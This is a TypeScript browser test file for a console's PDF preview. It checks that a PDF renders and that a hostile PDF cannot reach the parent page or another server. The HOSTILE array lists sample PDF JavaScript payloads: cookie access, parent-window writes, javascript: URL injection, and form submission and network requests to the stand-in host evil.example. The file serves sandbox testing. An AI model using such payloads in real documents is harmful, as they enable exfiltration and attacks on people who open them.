// @module-tag slow
// @module-tag attack
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { consoleTest } from "../support/console.ts";
import { redPdf } from "../support/pdf.ts";

const { vm, open } = consoleTest();

/** Returns the part of the preview that is red, as the screen shows it. */
async function redPart(page: Page): Promise<number> {
  const shot = await page.locator(".pdf").screenshot();
  return await page.evaluate(
    async (address) => {
      const image = new Image();
      image.src = address;
      await image.decode();
      const canvas = document.createElement("canvas");
      canvas.width = image.width;
      canvas.height = image.height;
      const drawing = canvas.getContext("2d") as CanvasRenderingContext2D;
      drawing.drawImage(image, 0, 0);
      const { data } = drawing.getImageData(0, 0, image.width, image.height);
      let red = 0;
      for (let at = 0; at < data.length; at += 4)
        if (data[at]! > 200 && data[at + 1]! < 60 && data[at + 2]! < 60) red += 1;
      return red / (data.length / 4);
    },
    `data:image/png;base64,${shot.toString("base64")}`,
  );
}

test("the files page shows a PDF as the browser draws it", async (context) => {
  await vm("pdf").writeFile("/workspace/red.pdf", redPdf());
  const page = await open(context, { at: "#/vm/vm/files/pdf" });
  await page.getByRole("treeitem", { name: "red.pdf" }).click();
  await expect.poll(() => redPart(page)).toBeGreaterThan(0.1);
});

/** Statements that a hostile document tries, each on its own. */
const HOSTILE = [
  "document.cookie",
  "window.parent.pwned = 1",
  "parent.pwned = 1",
  "app.launchURL('https://evil.example/launched', true)",
  "this.submitForm('https://evil.example/submitted')",
  "this.getURL('https://evil.example/got')",
  "getURL('javascript:parent.pwned=1')",
  "app.launchURL('javascript:parent.pwned=1')",
  "this.exportDataObject({ cName: 'x', nLaunch: 2 })",
  "app.openDoc('/console')",
  "Net.HTTP.request({ cVerb: 'GET', cURL: 'https://evil.example/' })",
];

test("a hostile PDF reaches neither the console's page nor another server", async (context) => {
  const script = HOSTILE.map((statement) => `try { ${statement} } catch (error) {}`).join(" ");
  await vm("pdf").writeFile("/workspace/hostile.pdf", redPdf(script));
  const page = await open(context, { at: "#/vm/vm/files/pdf" });
  const before = page.url();
  const opened: string[] = [];
  page.context().on("page", (other) => opened.push(other.url()));
  page.on("dialog", (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  await page.getByRole("treeitem", { name: "hostile.pdf" }).click();
  await expect.poll(() => redPart(page)).toBeGreaterThan(0.1);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(opened).toEqual([]);
  expect(page.url()).toBe(before);
});
